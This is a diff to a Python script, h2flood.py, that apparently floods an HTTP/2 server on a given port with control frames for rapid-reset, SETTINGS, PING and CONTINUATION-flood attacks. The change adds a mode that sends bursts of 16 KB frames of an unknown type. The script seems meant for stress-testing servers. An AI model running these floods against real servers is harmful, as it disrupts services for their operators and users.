@@ -10,6 +10,7 @@ the server closes it. --attack picks the frames:
   ping          PING frames, each of which the server must answer
   continuation  one HEADERS without END_HEADERS, then empty CONTINUATION frames without end (the 2024
                 CONTINUATION-flood class: the header block never grows, so a size limit never trips)
+  unknown       16 KB frames of an unknown type (0xfa), which a server must ignore (RFC 9113 4.1)
 
     python3 h2flood.py PORT [--attack reset] [--connections 4] [--seconds 20] [--burst 100]
 
@@ -132,6 +133,8 @@ def control_burst(attack, burst, first):
         return frame(4, 0, 0, struct.pack(">HI", 0x4, 65535)) * burst  # SETTINGS_INITIAL_WINDOW_SIZE
     if attack == "ping":
         return frame(6, 0, 0, b"12345678") * burst
+    if attack == "unknown":
+        return frame(0xFA, 0, 0, b"u" * 16384) * burst
     out = frame(1, 0x1, 1, request_block()) if first else b""  # HEADERS, END_STREAM, no END_HEADERS
     return out + frame(9, 0, 1) * burst
 
@@ -183,7 +186,7 @@ def main():
     ap.add_argument("--connections", type=int, default=4)
     ap.add_argument("--seconds", type=float, default=20.0)
     ap.add_argument("--burst", type=int, default=100)
-    ap.add_argument("--attack", choices=("reset", "settings", "ping", "continuation"), default="reset")
+    ap.add_argument("--attack", choices=("reset", "settings", "ping", "continuation", "unknown"), default="reset")
     a = ap.parse_args()
     print(json.dumps(flood(a.port, a.connections, a.seconds, a.burst, attack=a.attack)))
     return 0
